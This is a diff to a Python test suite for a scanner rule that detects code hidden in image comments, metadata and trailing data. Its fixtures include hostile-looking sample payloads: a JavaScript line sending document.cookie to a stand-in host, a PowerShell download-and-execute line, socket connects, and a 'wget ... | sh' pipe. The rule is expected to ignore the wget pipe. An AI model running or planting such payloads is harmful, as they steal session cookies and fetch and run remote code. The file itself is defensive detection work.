@@ -74,6 +74,9 @@ def test_finds_code_in_comments_and_metadata_of_a_jpeg(fired: Fired) -> None:
         ("JavaScript", b"\nvar s = document.createElement('script'); s.src = '//x/x.js'; document.body.append(s);\n"),
         ("VBScript", b'\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "calc"\r\n'),
         ("Python code", b"\nimport os, sys\nos.system('id')\n"),
+        ("Python code", b"data = eval(open('a').read())\nfrom os import system\nsystem('id')\n"),
+        ("Lua code", b"local s = require('socket')\nos.execute('id')\n"),
+        ("JavaScript", b"'use strict'; fetch('//example.org/?' + document.cookie)\n"),
         ("Python code", b"import socket, subprocess\ns = socket.socket()\ns.connect(('x', 1))\n"),
         ("PowerShell code", b"\r\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\n"),
     ],
@@ -227,11 +230,16 @@ def test_is_silent_about_dark_pixels_which_are_signs_in_any_order(fired: Fired) 
     assert fired(RULE, files) == {}
 
 
-def test_is_silent_about_prose_after_the_end(fired: Fired) -> None:
-    prose = (
-        b"Taken from the window. To import a system of my own, I alert everybody; see document 7 (location unknown)."
-    )
-    assert fired(RULE, {"a.jpg": jpeg(photo("a")) + prose}) == {}
+def test_is_silent_about_texts_after_the_end_that_reach_for_nothing(fired: Fired) -> None:
+    told = [
+        b"Taken from the window. To import a system of my own, I alert everybody; see document 7 (location unknown).",
+        b"boot=1\nmode = 3\nE: alert(code=5) shutter stuck\nW: eval(lens) failed",
+        b"(define (f x) (eval (x)))\n(eval(f 1))",
+        b"local json = require('dkjson')\nprint(json)",
+        b"import os\n\nprint(os.getcwd())\n",
+        b"firmware: update with\n\n  wget -O - http://example.org/up.sh | sh\n\nand reboot the camera afterwards.\n",
+    ]
+    assert fired(RULE, {f"{number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(told)}) == {}
 
 
 def test_finds_code_in_chunks_of_a_png(fired: Fired) -> None:
